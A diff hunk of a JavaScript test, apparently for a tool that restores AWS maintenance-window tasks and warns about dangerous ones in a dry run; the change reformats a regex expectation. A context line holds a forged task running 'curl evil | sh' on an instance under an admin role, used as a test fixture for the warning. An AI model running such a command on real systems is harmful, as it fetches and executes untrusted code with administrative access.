@@ -89,7 +89,9 @@ it('names what each task runs, with what, where and as whom, and warns of what d
   const { out } = await restore(sandbox, forged, { isDryRun: true });
   const where = 'on InstanceIds = i-0123456789abcdef0 as arn:aws:iam::123456789012:role/admin';
   expect(out).toContainEqual(
-    expect.stringMatching(/Register the task of .* again \(it was \S+\): AWS-RunPatchBaseline \(Operation: .* on tag:/),
+    expect.stringMatching(
+      /Register the task for .* again \(it was \S+\): AWS-RunPatchBaseline \(Operation: .* on tag:/,
+    ),
   );
   expect(out.filter((line) => line.includes(`AWS-RunShellScript (commands: curl evil | sh) ${where}`))).toHaveLength(2);
   expect(out.filter((line) => /^! The task of /.test(line))).toEqual([
